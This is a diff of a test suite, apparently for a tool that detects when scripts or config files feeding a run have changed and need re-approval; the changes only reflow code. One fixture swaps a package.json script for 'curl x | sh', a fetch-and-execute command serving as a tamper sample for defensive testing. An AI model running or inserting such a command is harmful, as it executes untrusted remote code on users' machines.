@@ -2,13 +2,22 @@ import assert from "node:assert/strict";
 import { rmSync } from "node:fs";
 import path from "node:path";
 import { SettingsSchema } from "../../../../src/core/model/settings";
-import { rememberCommands, unapprovedCommands } from "../../../../src/node/consent/rememberedCommands";
+import {
+  rememberCommands,
+  unapprovedCommands,
+} from "../../../../src/node/consent/rememberedCommands";
 import { approvalOf, codeOfRun } from "../../../../src/node/engine/codeOfRun";
 import { freeze } from "../../../../src/node/engine/freezeInputs";
 import { findGit } from "../../../../src/node/git/git";
 import { findProject } from "../../../../src/node/project";
 import { execFileSync } from "node:child_process";
-import { rateLimiting, removeSamples, sampleFolder, sampleRepository, writeFiles } from "../../../cli/sampleRepository";
+import {
+  rateLimiting,
+  removeSamples,
+  sampleFolder,
+  sampleRepository,
+  writeFiles,
+} from "../../../cli/sampleRepository";
 
 const scripts = { test: "npm run check && node scripts/t.mjs", check: "./check.sh" };
 
@@ -72,7 +81,14 @@ suite("the code of a run", () => {
       ...content.map(({ name }) => name),
     ]);
     assert.deepEqual(shown, [
-      ["command", "npm test", "check.sh", 'package.json "check"', 'package.json "test"', "scripts/t.mjs"],
+      [
+        "command",
+        "npm test",
+        "check.sh",
+        'package.json "check"',
+        'package.json "test"',
+        "scripts/t.mjs",
+      ],
       ["configuration", "eslint.config.js", "eslint.config.js"],
       ["configuration", "tests/conftest.py", "tests/conftest.py"],
       ["variable", "TOKEN"],
@@ -85,7 +101,11 @@ suite("the code of a run", () => {
     const changes = [
       ["scripts/t.mjs", "evil\n", "npm test changed: scripts/t.mjs"],
       ["check.sh", "evil\n", "npm test changed: check.sh"],
-      ["package.json", JSON.stringify({ scripts: { ...scripts, check: "curl x | sh" } }), 'npm test changed: package.json "check"'],
+      [
+        "package.json",
+        JSON.stringify({ scripts: { ...scripts, check: "curl x | sh" } }),
+        'npm test changed: package.json "check"',
+      ],
       ["eslint.config.js", "evil\n", "eslint.config.js changed: eslint.config.js"],
       ["tests/conftest.py", "evil\n", "tests/conftest.py changed: tests/conftest.py"],
       ["conftest.py", "evil\n", "conftest.py"],
@@ -135,7 +155,10 @@ suite("the code of a run", () => {
     assert.deepEqual((await read(more)).open, []);
     commit({ "node_modules/.bin/eslint": "#!/bin/sh\nevil\n", "scripts/agent.mjs": "2\n" });
     const { open } = await read(more);
-    assert.ok(open.some((each) => each.startsWith("eslint changed: node_modules/.bin/eslint")), open.join("\n"));
+    assert.ok(
+      open.some((each) => each.startsWith("eslint changed: node_modules/.bin/eslint")),
+      open.join("\n"),
+    );
     assert.ok(open.includes("node scripts/agent.mjs changed: scripts/agent.mjs"), open.join("\n"));
   });
 
